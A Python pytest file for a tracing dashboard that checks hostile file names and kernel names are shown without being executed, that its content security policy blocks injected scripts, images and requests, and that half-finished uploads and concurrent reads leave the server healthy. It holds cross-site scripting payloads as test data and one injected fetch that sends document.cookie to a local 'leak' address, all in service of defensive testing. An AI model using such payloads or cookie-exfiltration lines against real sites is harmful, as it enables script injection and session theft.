"""Hostile names and clients: nothing is executed, and the dashboard goes on."""

import os
import re
import socket
import threading
import time

import pytest
from selenium.webdriver.common.by import By

from dashboard.app import create_app
from dashboard.serving import Serving
from tests.dashboard.conftest import faults, load, served, until, visit
from tests.dashboard.traces import decode
from tracer import formats

IMAGE = "<img src=x onerror=window.hacked=1>"
NAMES = [
    IMAGE, "a\u202egnp.exe\u202c", "😀" * 40, "[x](javascript:window.hacked=1)", "x" * 240,
    "'\"&$x^2$<script>window.hacked=1<!--",
]  # fmt: skip
KERNELS = [
    IMAGE,
    "\u202eevil\x00",
    "k" * 10_000,
    "😀<b onclick=window.hacked=1>",
    "</script><script>window.hacked=1</script>",
]


TIMELINES = """
const layout = document.querySelector('#timeline .js-plotly-plot')?._fullLayout;
return (layout?.annotations || []).filter(each => each.name === 'heading').length
"""


@pytest.fixture(scope="module")
def runs(tmp_path_factory):
    directory = tmp_path_factory.mktemp("runs")
    for number, name in enumerate(NAMES):
        formats.write(decode(kernel=KERNELS[number % len(KERNELS)]), directory / name.replace("/", "|"))
    return directory


@pytest.mark.browser
def test_names_are_shown_and_nothing_of_them_is_executed(browser, runs):
    browser.get("about:blank")
    faults(browser)
    with served(runs) as address:
        keys = sorted(name.replace("/", "|") for name in NAMES)
        browser.get(f"{address}?{_query(*keys)}")
        until(browser, lambda: browser.execute_script(TIMELINES) == len(keys), "all drawn")
        until(browser, lambda: len(browser.find_elements(By.CSS_SELECTOR, "#downloads-of-runs tr")) > 5, "links")
        assert browser.find_elements(By.CSS_SELECTOR, "#page img, #page b[onclick], #page a[href^=javascript]") == []
        assert browser.execute_script("return window.hacked") is None
        visit(browser, f"{address}graph/?run={IMAGE}")
        until(browser, lambda: IMAGE in browser.find_element(By.ID, "nothing").text, "that it has no graph")
        assert browser.execute_script("return window.hacked") is None
        assert faults(browser) == []
        browser.get("about:blank")


def _query(*keys):
    from dashboard.view import View

    return View(runs=keys).query().removeprefix("?")


@pytest.mark.browser
def test_the_policy_stops_what_would_get_through(browser, filled):
    load(browser, f"{filled}graph/")
    until(browser, lambda: browser.find_elements(By.CSS_SELECTOR, "#page nav"), "the page")
    faults(browser)
    browser.execute_script("""
        const page = document.getElementById("page");
        page.insertAdjacentHTML("beforeend", "<img src='data:x' onerror='window.hacked=1'>");
        page.append(Object.assign(document.createElement("script"), {textContent: "window.hacked=1"}));
        page.append(Object.assign(document.createElement("img"), {src: "http://127.0.0.1:9/x.png"}));
        page.append(Object.assign(document.createElement("iframe"), {src: location.href}));
        fetch("http://127.0.0.1:9/leak?" + document.cookie).catch(() => null);
    """)
    log = []
    until(browser, lambda: log.extend(faults(browser)) or len(log) >= 5, "violations")
    assert browser.execute_script("return window.hacked") is None
    kinds = {kind for line in log for kind in re.findall("(script-src|img-src|connect-src|default-src)", line)}
    assert {"script-src", "img-src", "connect-src"} <= kinds
    browser.get("about:blank")
    faults(browser)


def test_an_upload_cut_off_in_the_middle_of_a_slice_leaves_the_server_as_it_was(tmp_path):
    with served(tmp_path, Serving(uploads=_made(tmp_path / "inbox"))) as address:
        port = int(re.search(r":(\d+)/", address)[1])
        for _ in range(20):
            answer = _ask(port, "POST /upload?name=x.json&size=1000000 HTTP/1.1", length=0)
            key = re.search(r'"id": ?"([^"]+)"', answer)
            if key is None:
                assert "too many simultaneous uploads" in answer
                break
            with socket.create_connection(("127.0.0.1", port), 10) as half:
                head = f"PUT /upload/{key[1]}?at=0 HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n\r\n"
                half.sendall(head.encode() + b"x" * 500_000)
        else:
            pytest.fail("more uploads at once than are allowed")
        time.sleep(0.2)
        assert " 200 OK" in _ask(port, "GET /healthz HTTP/1.1")
        assert sum(file.stat().st_size for file in (tmp_path / "inbox").rglob("*") if file.is_file()) == 0


def _made(path):
    path.mkdir()
    return path


def _ask(port, line, length=None):
    with socket.create_connection(("127.0.0.1", port), 10) as connection:
        body = "" if length is None else f"Content-Length: {length}\r\n"
        connection.sendall(f"{line}\r\nHost: 127.0.0.1\r\n{body}Connection: close\r\n\r\n".encode())
        return b"".join(iter(lambda: connection.recv(65536), b"")).decode()


def test_many_at_once_while_recordings_come_and_go(tmp_path):
    formats.write(decode(), tmp_path / "a")
    server = create_app([tmp_path]).server
    assert server.test_client().get("/download/gaps.csv?run=a").status_code == 200
    stop, problems = threading.Event(), []

    def read():
        client = server.test_client()
        while not stop.wait(0.05):
            for address in ("/revision", "/healthz", "/download/runs.json", "/download/gaps.csv?run=a"):
                answer = client.get(address)
                if answer.status_code != 200:
                    problems.append((address, answer.status_code))

    threads = [threading.Thread(target=read) for _ in range(4)]
    for thread in threads:
        thread.start()
    client = server.test_client()

    def counted(total):
        deadline = time.monotonic() + 60
        while client.get("/healthz").get_json()["runs"] != {"read": total, "total": total}:
            assert time.monotonic() < deadline, f"{total} were never read"
            time.sleep(0.05)

    for number in range(2):
        formats.write(decode(tokens=3), tmp_path / f"new{number}.json")
        counted(number + 2)
    os.remove(tmp_path / "new0.json")
    counted(2)
    stop.set()
    for thread in threads:
        thread.join()
    assert problems == []
